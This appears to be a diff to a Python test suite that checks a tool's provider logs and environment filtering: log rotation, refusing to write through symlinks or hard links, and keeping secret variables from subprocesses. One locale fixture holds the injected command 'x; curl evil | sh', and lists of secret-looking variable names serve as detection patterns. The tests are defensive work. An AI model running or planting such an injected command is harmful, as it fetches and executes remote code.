@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import logging
+import os
 import sys
 import textwrap
 
@@ -101,17 +102,54 @@ def test_a_providers_yaml_edited_by_hand_passes_none_of_them_and_says_so(home, t
         assert "\n" not in line and "not passed on" in line
 
 
-def test_a_log_file_past_its_bound_keeps_its_bound_and_says_what_was_dropped(tmp_path):
-    path = tmp_path / "p.log"
+def test_a_log_file_past_its_bound_is_moved_aside_and_keeps_the_newest_lines(tmp_path):
+    path, aside = tmp_path / "p.log", tmp_path / "p.log.1"
     log = ProviderLog(path=path, file_bytes=1000, max_chars=100)
+    lines = [f"{i:03d}".encode() + b"y" * 96 + b"\n" for i in range(50)]  # 5,000 bytes in all
+    for line in lines:
+        log.feed(line)
+    log.close()
+    now, before = path.read_bytes(), aside.read_bytes()
+    assert len(now) <= 1000 and len(before) <= 1000
+    assert now.endswith(lines[-1]) and before + now == b"".join(lines[-len((before + now).splitlines()) :])
+    assert log.text().endswith(lines[-1].decode())  # what is kept in memory: its last characters, as before
+
+
+def test_a_log_that_cannot_be_moved_aside_keeps_its_bound_and_says_what_was_dropped(tmp_path):
+    victim = tmp_path / "victim"
+    victim.write_text("keep\n")
+    path, aside = tmp_path / "p.log", tmp_path / "p.log.1"
+    aside.symlink_to(victim)  # never replaced, never written through
+    log = ProviderLog(path=path, file_bytes=1000)
     for _ in range(50):
-        log.feed(b"y" * 99 + b"\n")  # 5,000 bytes in all
+        log.feed(b"y" * 99 + b"\n")
     log.close()
     text = path.read_text()
     assert text.startswith("y" * 99 + "\n") and len(text.encode()) < 1400
     assert "reached its bound of 1000 bytes" in text
     assert text.rstrip().endswith("[qsolve: 4000 bytes of this log were dropped]")
-    assert log.text().endswith("y" * 99 + "\n")  # what is kept in memory: its last characters, as before
+    assert aside.is_symlink() and victim.read_text() == "keep\n"
+
+
+@pytest.mark.parametrize("kind", ["fifo", "hard link", "folder"])
+def test_a_log_that_is_no_regular_file_of_ours_is_not_written_and_said(tmp_path, caplog, kind):
+    path, other = tmp_path / "p.log", tmp_path / "other"
+    if kind == "fifo":
+        os.mkfifo(path)
+    elif kind == "hard link":
+        other.write_text("keep\n")
+        os.link(other, path)
+    else:
+        path.mkdir()
+    with caplog.at_level(logging.WARNING, logger="qsolve.providers.over_process"):
+        log = ProviderLog(path=path, file_bytes=1000)
+        log.feed(b"written by the provider\n")
+        log.close()
+    (said,) = [r.getMessage() for r in caplog.records]
+    assert said.startswith(f"provider log {path}: nothing is written to it") and "\n" not in said
+    assert log.text() == "written by the provider\n"  # still kept in memory
+    if kind == "hard link":
+        assert other.read_text() == "keep\n"
 
 
 def test_a_log_file_found_at_its_bound_is_moved_aside_once(tmp_path, monkeypatch):
@@ -158,3 +196,90 @@ def test_the_evaluation_models_key_variable_is_never_passed_on(home, tmp_path, m
     err = capsys.readouterr().err
     assert code == 2 and "--env JUDGE_AUTH:" in err and "credential" in err
     assert host_variable("RIG_KEY") is not None  # a name ending in KEY is a secret's
+
+
+#: a variable no name marks, holding a value the host keeps secret
+NEUTRAL = "LAB_ZONE"
+
+
+@pytest.mark.parametrize("holds", ["credential", "ibm key", "own secret", "url password"])
+def test_a_variable_whose_value_is_a_secret_is_refused_at_add_and_left_out_at_start(
+    home, tmp_path, capsys, caplog, monkeypatch, holds
+):
+    from qsolve.providers.credentials import CredentialStore, Secret
+
+    script = tmp_path / "environ.py"
+    script.write_text(ENVIRON)
+    value = {
+        "credential": "lab-cred-8c8c8c",
+        "ibm key": "ibm-key-7d7d7d",
+        "own secret": HOST["PGPASSWORD"] + "-long",
+        "url password": "amqp://u:pw-3b3b@broker/x",
+    }[holds]
+    if holds == "credential":  # another provider's stored credential, its variable unrecorded
+        monkeypatch.setenv("LAB_CRED_SOURCE_X", value)
+        argv = ["providers", "add", "other", "--process", "--credential-env", "LAB_CRED_SOURCE_X", "--"]
+        assert main([*argv, sys.executable, str(script)]) == 0
+        monkeypatch.delenv("LAB_CRED_SOURCE_X")  # the stored credential alone
+    elif holds == "ibm key":
+        CredentialStore(home).put("ibm", Secret(value))
+    elif holds == "own secret":
+        monkeypatch.setenv("PGPASSWORD", value)
+    monkeypatch.setenv(NEUTRAL, "eu-2")
+    argv = ["providers", "add", "nosy", "--process", "--env", NEUTRAL, "--", sys.executable, str(script)]
+    assert main(argv) == 0  # an ordinary value: added
+    monkeypatch.setenv(NEUTRAL, value)
+    capsys.readouterr()
+    assert main([*argv[:2], "nosy2", *argv[3:]]) == 2
+    err = capsys.readouterr().err
+    assert len(err.strip().splitlines()) == 1 and f"--env {NEUTRAL}:" in err and value not in err
+    client, _ = open_client("nosy")  # added before the value was: left out when it starts, and said
+    try:
+        with caplog.at_level(logging.WARNING, logger="qsolve.providers.over_process"):
+            env = client.transport.exchange(DESCRIBE, 60)["env"]
+    finally:
+        client.close()
+    assert NEUTRAL not in env and value not in json.dumps(env)
+    (said,) = [r.getMessage() for r in caplog.records if r.getMessage().startswith(f"env {NEUTRAL}:")]
+    assert "not passed on" in said and value not in said
+
+
+def test_only_the_locale_categories_with_a_locales_value_are_passed_on(tmp_path):
+    from qsolve.providers.over_process import provider_environment
+
+    source = {
+        "LANG": "en_US.UTF-8",
+        "LC_ALL": "C.UTF-8",
+        "LC_TIME": "sr_RS@latin",
+        "LC_NUMERIC": "es_419.utf8",
+        "LC_MESSAGES": "x; curl evil | sh",
+        "LC_TERMINAL": "iTerm2",
+        "LC_PAT": "tok-2b2b",
+    }
+    env = provider_environment(source, scratch=tmp_path)
+    assert {k: v for k, v in env.items() if k.startswith(("LC_", "LANG"))} == {
+        "LANG": "en_US.UTF-8",
+        "LC_ALL": "C.UTF-8",
+        "LC_TIME": "sr_RS@latin",
+        "LC_NUMERIC": "es_419.utf8",
+    }
+
+
+@pytest.mark.parametrize("name", ["DB_PASS", "SMTP_PWD", "DBPASS", "OAUTH_CLIENT", "GH_PAT", "SESSION_ID",
+                                  "AUTH_COOKIE", "PGDSN", "AZURE_CONN_STR"])  # fmt: skip
+def test_common_secret_spellings_are_secrets(name):
+    assert host_variable(name) is not None
+
+
+@pytest.mark.parametrize("name", ["PWD", "OLDPWD", "PATH", "PYTHONPATH", "GIT_AUTHOR_NAME", "COMPASS_DIR",
+                                  "BYPASS_CACHE", "LAB_REGION"])  # fmt: skip
+def test_names_like_a_secrets_that_are_none_are_passed_on(name):
+    assert host_variable(name) is None
+
+
+def test_a_short_value_of_a_secret_named_variable_is_no_secret_to_another(tmp_path):
+    from qsolve.providers.registry import known_secret_values
+
+    environ = {"DESKTOP_SESSION": "ubuntu", "XDG_SESSION_TYPE": "wayland", "LAB_PASS": "lab-pass-9e9e"}
+    values = known_secret_values(tmp_path, environ)
+    assert "lab-pass-9e9e" in values and "ubuntu" not in values and "wayland" not in values
